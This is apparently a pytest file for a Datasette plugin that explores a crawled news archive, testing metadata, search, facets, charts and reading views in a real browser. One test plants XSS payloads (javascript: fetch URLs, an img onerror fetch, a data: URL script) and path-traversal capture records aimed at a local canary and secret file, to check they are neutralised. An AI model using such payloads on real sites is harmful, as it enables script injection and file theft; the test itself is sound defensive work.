"""Exploring the archive in Datasette: metadata that matches the schema, canned queries that
run, and a real Chromium searching, opening a post and drawing the chart."""

import json
import os
import sqlite3
import subprocess
import sys
import urllib.parse
import urllib.request

import pytest
import sqlite_utils
from playwright.sync_api import sync_playwright

from crawler import storage
from crawler.explore import archive_metadata
from crawler.rendering import launch_options
from devtools.replica import Replica, seed_post

from .conftest import ROOT, free_port, run_crawl, wait_for_http
from crawler.analysis import match_expression

ARTIFACTS = ROOT / "tests" / "artifacts"


@pytest.fixture(scope="module")
def schema():
    db = sqlite_utils.Database(memory=True)
    storage.ensure_db_shape(db)
    names = [t.name for t in db.tables if "_fts" not in t.name] + db.view_names()
    return {name: set(db[name].columns_dict) for name in names}


@pytest.fixture(scope="module")
def metadata():
    return archive_metadata()


def test_every_table_and_column_the_metadata_names_exists(schema, metadata):
    for table, info in metadata["tables"].items():
        assert table in schema, table
        assert set(info.get("columns", {})) <= schema[table], (table, set(info["columns"]) - schema[table])
        for facet in info.get("facets", []):
            column = facet if isinstance(facet, str) else next(iter(facet.values()))
            assert column in schema[table], (table, facet)
        for key in ("sort_desc", "label_column"):
            if key in info:
                assert info[key] in schema[table], (table, key)


def test_every_table_and_column_of_the_schema_is_described(schema, metadata):
    for table, columns in schema.items():
        assert metadata["tables"].get(table, {}).get("description"), table
        described = set(metadata["tables"][table].get("columns", {}))
        assert columns <= described, (table, columns - described)


def test_any_archive_gets_the_metadata_whatever_its_name_and_other_databases_none(tmp_path):
    """Plain Datasette with the plugin: an archive under any file name has its metadata and
    canned queries; a database of something else has none."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from datasette.app import Datasette

    from crawler import storage

    archive = tmp_path / "my notes from 2026.db"
    storage.open_db(archive).close()
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE notes (text)").connection.close()
    datasette = Datasette([str(archive), str(other)])
    register_with(datasette)

    async def get():
        mine, theirs = datasette.urls.database("my notes from 2026"), datasette.urls.database("other")
        return [await datasette.client.get(path, follow_redirects=True) for path in (
            f"{mine}/search.json?q=", f"{theirs}/search.json?q=", f"{mine}/posts.json?_size=0",
        )]

    with ThreadPoolExecutor(1) as thread:
        search, other_search, posts = thread.submit(lambda: asyncio.run(get())).result()
    assert search.status_code == 200 and search.json()["rows"] == []
    assert other_search.status_code == 404
    assert posts.status_code == 200


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    db_path = tmp_path_factory.mktemp("explore") / "archive.db"
    with Replica(posts=60, seed=2) as replica:
        result = run_crawl(replica.index_url, db_path)
        assert result.returncode == 0, result.stderr[-3000:]
        newest = replica.site.posts[0].id
        replica.app.edit_post(newest)
        result = run_crawl(replica.index_url, db_path, "-a", "mode=full")
        assert result.returncode == 0, result.stderr[-3000:]
    return db_path


def load_plugin():
    """The hooks of the archive's Datasette plugin."""
    from crawler.explore import plugin

    return plugin


def register_with(datasette) -> None:
    """The plugin as an installed package's entry point registers it (the tests run from the checkout)."""
    from crawler.explore.__main__ import register_plugin

    register_plugin()


def test_canned_queries_answer(archive, metadata):
    conn = sqlite3.connect(archive)
    conn.row_factory = sqlite3.Row
    load_plugin().prepare_connection(conn)
    params = {"author": "joanna paraszczuk", "tag": "kazakhstan", "q": "Zharylgasov", "page": ""}
    metadata = dict(metadata, queries={k: v for k, v in metadata["queries"].items() if k != "search_live_entries"})
    try:
        answers = {
            name: conn.execute(query["sql"], {k: v for k, v in params.items() if f":{k}" in query["sql"]}).fetchall()
            for name, query in metadata["queries"].items()
        }
    finally:
        conn.close()
    assert sum(row["posts"] for row in answers["posts_per_month"]) == 60
    assert answers["cited_domains"][0]["links"] >= answers["cited_domains"][-1]["links"] > 0
    assert [json.loads(row["changed_fields"]) for row in answers["edited_posts"]][0][:2] == ["body_html", "body_text"]
    assert any("Kazakhstan" in row["title"] for row in answers["posts_by_author"])
    assert 26829775 in [row["id"] for row in answers["posts_with_tag"]]
    assert [row["id"] for row in answers["search"]] == [26829775]
    assert "\ue000Zharylgasov\ue001" in answers["search"][0]["snippet"]


@pytest.fixture(scope="module")
def datasette(archive):
    port = free_port()
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    process = subprocess.Popen(
        [sys.executable, "-m", "crawler.explore", str(archive), "--port", str(port)],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        wait_for_http(base + "/-/versions.json", process)
    except BaseException:
        process.kill()
        raise
    yield base
    process.terminate()
    process.wait(timeout=10)
    process.stderr.close()


@pytest.fixture(scope="module")
def browser():
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(**launch_options("/usr/bin/chromium"))
        yield chromium
        chromium.close()


def _watched_page(browser):
    """A page that records failed requests, error answers and console errors."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    problems = []
    page.on("requestfailed", lambda request: problems.append(f"failed: {request.url}"))
    page.on("response", lambda response: response.status >= 400 and problems.append(f"{response.status}: {response.url}"))
    page.on("console", lambda message: message.type == "error" and problems.append(f"console: {message.text}"))
    page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
    return page, problems


def test_search_finds_the_seed_post_and_its_page_shows_its_fields(datasette, browser):
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/archive/posts")
    page.fill("input#_search", "Zharylgasov")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    page.wait_for_load_state("networkidle")
    page.locator("table.rows-and-columns").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "search.png"), full_page=False)
    assert [problem for problem in problems if datasette in problem] == []
    results = page.locator("table.rows-and-columns tbody tr")
    assert results.count() == 1
    assert "Kazakhstan Says It Won't Prosecute Four Men It Stopped From Joining IS" in results.first.inner_text()
    with page.expect_navigation():
        page.click("table.rows-and-columns tbody tr td.col-Link a")
    page.wait_for_load_state("networkidle")
    assert page.url.endswith(",26829775")  # the row of (site, 26829775)
    text = page.inner_text("body")
    assert "Joanna Paraszczuk" in text and "2015-02-05T11:24:00+00:00" in text and "Under The Black Flag" in text
    # body_html is shown as HTML (sanitized), its links live, its text readable.
    assert page.locator(".post-body p").count() == 19
    assert page.locator(".post-body a[href^='https://ertis-radio.example/']").inner_text() == "Ertis Radio"
    page.screenshot(path=str(ARTIFACTS / "post.png"), full_page=False)
    # The post's pictures live on the publisher's servers, out of reach here; nothing of
    # the archive's own may fail.
    assert [problem for problem in problems if datasette in problem] == []
    page.close()


def test_search_query_highlights_the_words_found(datasette, browser):
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/archive/search?q=Zharylgasov")
    page.wait_for_load_state("networkidle")
    assert page.locator("td.col-snippet mark").first.inner_text() == "Zharylgasov"
    assert problems == []
    page.close()


def test_chart_page_renders_offline_with_no_failed_request_and_no_console_error(datasette, browser):
    page, problems = _watched_page(browser)
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(f"{datasette}/-/chart")
    page.wait_for_load_state("networkidle")
    page.screenshot(path=str(ARTIFACTS / "chart.png"), full_page=True)
    assert page.locator("svg rect").count() > 12
    assert page.locator("figure figcaption").first.inner_text().startswith("Posts per month, 2014-")
    assert problems == []
    assert all(url.startswith(datasette) for url in requested), [u for u in requested if not u.startswith(datasette)]
    page.close()


def test_post_list_facets_by_month_author_and_tag(datasette):
    with urllib.request.urlopen(f"{datasette}/archive/post_list.json?_size=1") as response:
        data = json.load(response)
    facets = data.get("facet_results", {})
    facets = facets.get("results", facets)
    assert {"month", "blog", "section", "tags", "authors"} <= set(facets)
    assert data["filtered_table_rows_count"] == 60


def _facet_counts(base: str, path: str) -> dict[str, dict]:
    with urllib.request.urlopen(f"{base}{path}") as response:
        data = json.load(response)
    facets = data.get("facet_results", {})
    facets = facets.get("results", facets)
    return {name: {row["value"]: row["count"] for row in facet["results"]} for name, facet in facets.items()}, data


def test_facets_counted_as_posts_are_written_say_what_datasettes_own_facets_count(datasette):
    """The whole table's facets come from facet_counts; on a page filtered to every row
    (``id__gt=0``) Datasette's own facets count the rows: both say the same."""
    for table, names in (("posts", {"section", "site", "language", "authors", "tags"}),
                         ("post_list", {"month", "blog", "section", "tags", "authors"})):
        counted, data = _facet_counts(datasette, f"/archive/{table}.json?_size=1")
        assert set(counted) == names and all(counted.values()), counted
        own, data = _facet_counts(datasette, f"/archive/{table}.json?_size=1&id__gt=0")
        assert data["filtered_table_rows_count"] == 60
        for name in names - {"blog"}:
            assert counted[name] == own[name], (table, name)
    # A blog's count is the count of posts that list it; a tag's, of the posts that have it.
    counted, _ = _facet_counts(datasette, "/archive/post_list.json?_size=1")
    [(blog, count)] = counted["blog"].items()
    _, data = _facet_counts(datasette, f"/archive/post_list.json?_size=1&blog__contains={urllib.parse.quote(blog)}")
    assert data["filtered_table_rows_count"] == count == 60
    tag, count = next(iter(counted["tags"].items()))
    filtered, data = _facet_counts(datasette, f"/archive/posts.json?_size=1&tags__arraycontains={urllib.parse.quote(tag)}")
    assert data["filtered_table_rows_count"] == count == sum(filtered["section"].values()) < 60


def test_views_that_join_every_row_open_without_their_count_unless_asked(datasette, archive):
    links = sqlite3.connect(archive).execute("SELECT count(*) FROM links JOIN posts ON posts.site = links.site AND posts.id = links.post_id").fetchone()[0]
    _, plain = _facet_counts(datasette, "/archive/cited_links.json?_size=2")
    _, counted = _facet_counts(datasette, "/archive/cited_links.json?_size=2&_count=1")
    assert plain["filtered_table_rows_count"] is None and len(plain["rows"]) == 2
    assert counted["filtered_table_rows_count"] == links > 2
    _, posts = _facet_counts(datasette, "/archive/post_list.json?_size=2")
    assert posts["filtered_table_rows_count"] == 60


def test_post_list_search_finds_the_seed_post(datasette):
    with urllib.request.urlopen(f"{datasette}/archive/post_list.json?_search=Zharylgasov&_shape=array") as response:
        found = json.load(response)
    assert [row["id"] for row in found] == [26829775]


def test_fts_query_reads_user_text_as_words_and_fts_syntax_only_when_asked():
    from crawler.analysis import TOKENIZE, index_text

    fts_query = load_plugin().fts_query
    conn = sqlite3.connect(":memory:")
    conn.execute(f"CREATE VIRTUAL TABLE t USING fts5(body, content='', tokenize=\"{TOKENIZE}\")")
    documents = {1: "Foreign fighters or recruits", 2: "The fighter went home", 3: "Recruits arrived", 4: "The Islamic State",
                 5: "Raqqa and Mosul", 6: "Raqqa was quiet for many days and nights before Mosul"}
    for rowid, text in documents.items():
        conn.execute("INSERT INTO t (rowid, body) VALUES (?, ?)", [rowid, index_text(text, "en")])

    def found(text):
        return {row[0] for row in conn.execute("SELECT rowid FROM t WHERE t MATCH ?", [fts_query(text)])}

    assert fts_query("") == fts_query("   ") == fts_query('"') == '""'  # matches nothing, no error
    assert found('islamic "state') == {4}  # a stray quote is only a character
    assert found("fighters OR recruits") == {1}  # every word, OR one of them
    assert found("fts:fighters OR recruits") == {1, 2, 3}
    assert found('fts:"foreign fighters"') == {1} and found('fts:"fighters foreign"') == set()
    assert found("fts:fight* NOT home") == {1}
    assert found('fts:"foreign') == {1}  # FTS5 cannot read it: searched word by word
    assert found("fts:NEAR(raqqa mosul, 5)") == {5} and found("fts:NEAR(raqqa mosul)") == {5, 6}
    assert found("fts:NEAR(raqqa fighters, 5) OR recruit*") == {1, 3}


def test_search_leads_to_a_reading_view_of_the_post(datasette, browser):
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/archive/search?q=zharylgasov")
    page.wait_for_load_state("networkidle")
    page.screenshot(path=str(ARTIFACTS / "search-query.png"), full_page=False)
    with page.expect_navigation():
        page.click("td.col-title a.read")
    page.wait_for_load_state("networkidle")
    assert "/-/post/" in page.url and page.url.split("?")[0].endswith("/26829775")
    assert page.inner_text("article h1") == "Kazakhstan Says It Won't Prosecute Four Men It Stopped From Joining IS"
    byline = page.inner_text("article .byline")
    assert "Joanna Paraszczuk" in byline and "2015-02-05T11:24:00+00:00" in byline
    assert page.locator("article .post-body p").count() == 19
    assert "Zharylgasov" in page.inner_text("article .post-body")
    assert page.locator("article a[href^='https://ertis-radio.example/']").first.inner_text() == "Ertis Radio"
    captions = page.locator("article figcaption").all_inner_texts()
    assert any(caption.startswith(seed_post.LEAD_IMAGE_CAPTION[:40]) for caption in captions), captions
    assert page.locator("article .tags a.tag").all_inner_texts() == list(seed_post.TAGS)
    assert page.locator("article a.original").get_attribute("href").endswith("/26829775.html")
    # The capture: the page as the replica served it, kept in the WARC files.
    capture = page.locator("article a.capture").get_attribute("href")
    page.screenshot(path=str(ARTIFACTS / "reading-view.png"), full_page=False)
    with urllib.request.urlopen(datasette + capture) as answer:
        assert answer.status == 200 and answer.headers["Content-Security-Policy"].startswith("sandbox")
        assert b"Zharylgasov" in answer.read()
    # A tag leads to the posts carrying it.
    with page.expect_navigation():
        page.click("article .tags a.tag >> nth=0")
    assert "tags__arraycontains=Kazakhstan" in page.url
    assert [problem for problem in problems if datasette in problem] == []
    page.close()


def test_a_revised_post_shows_what_changed(archive, datasette, browser):
    [edited] = rows_of(archive, "SELECT site, post_id FROM revisions WHERE entry_id IS NULL")
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/-/post/{edited['site']}/{edited['post_id']}?database=archive")
    page.wait_for_load_state("networkidle")
    revision = page.locator("article .revision")
    assert revision.count() == 1
    assert "edited on the site" in revision.inner_text()
    assert revision.locator("del").count() > 0 and revision.locator("ins").count() > 0
    page.locator("article .revisions").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "revision.png"), full_page=False)
    assert [problem for problem in problems if datasette in problem] == []
    page.close()


@pytest.mark.parametrize("query", ["search", "search_live_entries"])
@pytest.mark.parametrize("text", ["", '"', 'fts:"unterminated', "zharylgasov&page=2"])
def test_searches_never_open_on_an_error(datasette, browser, query, text):
    page, problems = _watched_page(browser)
    answer = page.goto(f"{datasette}/archive/{query}?q={text}")
    page.wait_for_load_state("networkidle")
    assert answer.status == 200
    assert "error" not in page.inner_text("body").lower()
    assert problems == []
    page.close()


def rows_of(db_path, sql):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(row) for row in conn.execute(sql)]
    finally:
        conn.close()


def test_chart_counts_each_sites_posts_once_inside_datasettes_layout(tmp_path):
    """Two sites whose posts share ids: each author's count is of their own posts."""
    from datasette.app import Datasette

    from crawler import storage

    from .test_storage import make_post

    db_path = tmp_path / "two_sites.db"
    db = storage.open_db(db_path)
    with db.atomic():
        for post_id in range(1, 36):
            storage.save_post(db, make_post(post_id, authors=["Author A"]), "2026-01-01T00:00:00+00:00")
            storage.save_post(db, make_post(post_id, site="voanews.com", authors=["Author B"],
                                            url=f"https://www.voanews.com/a/x/{post_id}.html"), "2026-01-01T00:00:00+00:00")
    db.close()
    datasette = Datasette([str(db_path)])
    register_with(datasette)

    async def get():
        return await datasette.client.get("/-/chart")

    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    # A thread of its own: the browser tests of this module keep an event loop in this one.
    with ThreadPoolExecutor(1) as thread:
        answer = thread.submit(lambda: asyncio.run(get())).result()
    assert answer.status_code == 200
    html = answer.text
    assert "Author A: 35 posts" in html and "Author B: 35 posts" in html
    assert '<header><nav>' in html and 'class="charts"' in html  # Datasette's own page, header and menu
    assert 'viewBox="0 0 ' in html


def test_the_posts_table_reads_at_a_glance(datasette, browser):
    """Rows of a few lines, the search box on the first screen, the long texts cut short
    (whole on the row's page and in the reading view)."""
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/archive/posts?_size=10")
    page.wait_for_load_state("networkidle")
    page.screenshot(path=str(ARTIFACTS / "posts-table.png"), full_page=False)
    assert page.locator("input#_search").bounding_box()["y"] < 600
    heights = [box["height"] for box in (row.bounding_box() for row in page.locator("table.rows-and-columns tbody tr").all())]
    assert heights and max(heights) < 300, heights
    cut = page.locator("td.col-body_text .long-text").first
    assert cut.bounding_box()["height"] < 120
    # The row's own page shows the whole text.
    with page.expect_navigation():
        page.click("table.rows-and-columns tbody tr >> nth=0 >> td.col-Link a")
    page.wait_for_load_state("networkidle")
    assert page.locator("td.col-body_text .long-text").first.bounding_box()["height"] > 200
    assert [problem for problem in problems if datasette in problem] == []
    page.close()


def test_the_database_page_opens_on_the_posts(datasette, browser):
    page, problems = _watched_page(browser)
    page.goto(f"{datasette}/archive")
    page.wait_for_load_state("networkidle")
    first = page.locator("ul.start-here a").first
    assert first.inner_text() == "Posts"
    assert first.bounding_box()["y"] < page.locator("h2#tables").bounding_box()["y"]
    with page.expect_navigation():
        first.click()
    assert page.url.split("?")[0].endswith("/archive/posts")
    assert problems == []
    page.close()


def test_a_hostile_archives_reading_view_clicked_everywhere_sends_nothing_to_a_canary(archive, browser, tmp_path):
    """An archive made elsewhere, whose URLs and body are script aimed at a canary on another
    loopback address (a merge refuses such an archive; the exploration may still open it):
    its reading view and capture, every link and picture clicked, send the canary nothing."""
    from .canary import Canary
    from .conftest import copy_archive

    with Canary(host="127.0.0.7") as canary:
        hostile = copy_archive(archive, tmp_path / "hostile.db")
        aim = f"javascript:fetch('{canary.base_url}/CLICKED').then(()=>0)"
        conn = sqlite3.connect(hostile)
        with conn:
            post_id = conn.execute("SELECT p.id FROM posts p WHERE EXISTS (SELECT 1 FROM links l WHERE l.post_id = p.id) "
                                   "AND EXISTS (SELECT 1 FROM images i WHERE i.post_id = p.id) ORDER BY p.id LIMIT 1").fetchone()[0]
            conn.execute("UPDATE posts SET url = ?, body_html = body_html || ? WHERE id = ?", [
                aim.replace("CLICKED", "post"),
                f'<p><a href="{aim.replace("CLICKED", "body")}">click</a><img src="x" onerror="fetch(\'{canary.base_url}/onerror\')">'
                f'<a href="data:text/html,<script>fetch(\'{canary.base_url}/data\')</script>">data</a></p>', post_id])
            for table in ("links", "images"):
                conn.execute(f"UPDATE {table} SET url = ? WHERE post_id = ?", [aim.replace("CLICKED", table), post_id])
            conn.execute("INSERT INTO embeds (site, post_id, position, kind, url) VALUES ('127.0.0.1', ?, 99, 'iframe', ?)",
                         [post_id, aim.replace("CLICKED", "embed")])
            # Captures that name files outside the archive's WARC folder.
            secret = tmp_path / "secret.txt"
            secret.write_text("secret-line:not-for-readers\n")
            os.makedirs(f"{hostile}.warc", exist_ok=True)
            os.symlink(secret, f"{hostile}.warc/link.warc.gz")
            for record, name in (("<urn:up>", "../secret.txt"), ("<urn:abs>", str(secret)), ("<urn:link>", "link.warc.gz")):
                conn.execute("INSERT INTO captures (record_id, warc_file, offset, length, warc_type, url, fetched_at, status) "
                             "VALUES (?, ?, 0, 10, 'response', 'http://127.0.0.1/a/1.html', '2026-01-01T00:00:00+00:00', 200)", [record, name])
        conn.close()
        port = free_port()
        process = subprocess.Popen([sys.executable, "-m", "crawler.explore", str(hostile), "--port", str(port)], cwd=ROOT,
                                   env=dict(os.environ, PYTHONPATH=str(ROOT)), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        base = f"http://127.0.0.1:{port}"
        try:
            wait_for_http(base + "/-/versions.json", process)
            import urllib.error
            import urllib.parse

            for record in ("<urn:up>", "<urn:abs>", "<urn:link>"):
                query = urllib.parse.urlencode({"database": "hostile", "record": record})
                with pytest.raises(urllib.error.HTTPError) as refused:
                    urllib.request.urlopen(f"{base}/-/capture?{query}", timeout=10)
                assert refused.value.code == 404 and b"secret-line" not in refused.value.read()
            page = browser.new_page()
            reading = f"{base}/-/post/127.0.0.1/{post_id}?database=hostile"
            page.goto(reading)
            page.wait_for_load_state("networkidle")
            assert page.locator("article .links .unsafe-url").count() >= 1  # shown as text, not as a link
            assert page.locator(f"article [href^='javascript:'], article [src^='javascript:']").count() == 0
            count = page.locator("article a, article img, article button").count()
            page.close()
            clicked = 0
            for number in range(count):
                # Each click on a page of its own: where one click leads never races the next.
                page = browser.new_page()
                try:
                    page.goto(reading)
                    page.wait_for_load_state("networkidle")
                    target = page.locator("article a, article img, article button").nth(number)
                    if target.is_visible():
                        target.click(timeout=3000, no_wait_after=True)
                        clicked += 1
                        page.wait_for_load_state("networkidle", timeout=5000)
                except Exception:  # noqa: BLE001 - a click that leads nowhere is fine; what it sends is the finding
                    pass
                finally:
                    page.close()
            assert clicked >= 5
        finally:
            process.terminate()
            process.wait(timeout=10)
            process.stderr.close()
        assert canary.requests == []


def _in_process(archive, paths: list[str], counted_up_to: int | None = None) -> list:
    """Pages of a real Datasette with the plugin (in this process), its ``counted_up_to``
    configured when given."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from datasette.app import Datasette

    metadata = {"plugins": {"crawler.explore": {"counted_up_to": counted_up_to}}} if counted_up_to is not None else {}
    datasette = Datasette([str(archive)], metadata=metadata)
    register_with(datasette)

    async def get():
        return [(await datasette.client.get(path, follow_redirects=True)).json() for path in paths]

    with ThreadPoolExecutor(1) as thread:
        return thread.submit(lambda: asyncio.run(get())).result()


def _matching(archive, word: str) -> list[tuple]:
    """(id, published_at) of the posts whose text holds ``word``, best match first."""
    with sqlite3.connect(archive) as conn:
        return conn.execute(
            "SELECT posts.id, posts.published_at FROM posts_fts JOIN posts ON posts.rowid = posts_fts.rowid "
            "WHERE posts_fts MATCH ? ORDER BY rank", [match_expression(word)]
        ).fetchall()


def test_a_search_of_more_posts_than_are_ranked_lists_them_newest_first_and_leaves_facets_uncounted(archive):
    """Up to ``counted_up_to`` matches, a search ranks them and the list's facets count them;
    beyond, the search lists its matches newest first and the facets say they were not
    counted (ranking or grouping a word most of a million posts hold takes seconds)."""
    common = "islamic"
    found = _matching(archive, common)
    assert 10 < len(found) < 60
    ranked = [post_id for post_id, _ in found][:50]
    newest = [post_id for post_id, _ in sorted(found, key=lambda row: row[1], reverse=True)][:50]
    assert ranked != newest
    path = f"/archive/search.json?q={common}&_shape=array"
    facets = f"/archive/post_list.json?_search={common}&_size=1&_extra=facet_results"
    few = "/archive/post_list.json?_search=Zharylgasov&_size=1&_extra=facet_results"
    by_rank, counted, rare = _in_process(archive, [path, facets, few])
    by_date, uncounted, rare_small = _in_process(archive, [path, facets, few], counted_up_to=10)
    assert [row["id"] for row in by_rank] == ranked and by_rank[0]["matches"] == len(found)
    assert [row["id"] for row in by_date] == newest and by_date[0]["matches"] == len(found)

    def results(data):
        return {name: (facet["type"], sum(v["count"] for v in facet["results"])) for name, facet in data["facet_results"].get("results", data["facet_results"]).items()}

    assert results(counted)["month"] == ("column", len(found))
    assert set(results(uncounted).values()) == {("not counted: more than 10 rows", 0)}
    assert results(rare) == results(rare_small) and results(rare_small)["month"] == ("column", 1)
    # The list of a search of more posts than are counted: the last stored first, no count;
    # a reader's own sort or count is kept.
    assert counted["filtered_table_rows_count"] == len(found) and "sorted by published_at desc" in counted["human_description_en"]
    assert uncounted["filtered_table_rows_count"] is None and "sorted by search_key desc" in uncounted["human_description_en"]
    assert rare_small["filtered_table_rows_count"] == 1 and "sorted by published_at desc" in rare_small["human_description_en"]
    listed, asked = _in_process(archive, [
        f"/archive/post_list.json?_search={common}&_shape=objects&_size=100&_col=search_key",
        f"/archive/post_list.json?_search={common}&_size=1&_count=1&_sort=id",
    ], counted_up_to=10)
    keys = [row["search_key"] for row in listed["rows"]]
    assert len(keys) == len(found) and keys == sorted(keys, reverse=True)
    assert asked["filtered_table_rows_count"] == len(found) and "sorted by id" in asked["human_description_en"]
    # An archive whose name Datasette writes with tildes in its URLs, and FTS5's own syntax.
    import shutil

    from datasette.utils import tilde_encode

    named = archive.parent / "an archive (2026).db"
    shutil.copy(archive, named)
    route = tilde_encode("an archive (2026)")
    other, raw = _in_process(named, [
        f"/{route}/post_list.json?_search={common}&_size=1",
        f"/{route}/post_list.json?_search={common}%20OR%20zharylgasov&_searchmode=raw&_size=1",
    ], counted_up_to=10)
    assert other["filtered_table_rows_count"] is None and "sorted by search_key desc" in other["human_description_en"]
    assert raw["filtered_table_rows_count"] is None and "sorted by search_key desc" in raw["human_description_en"]
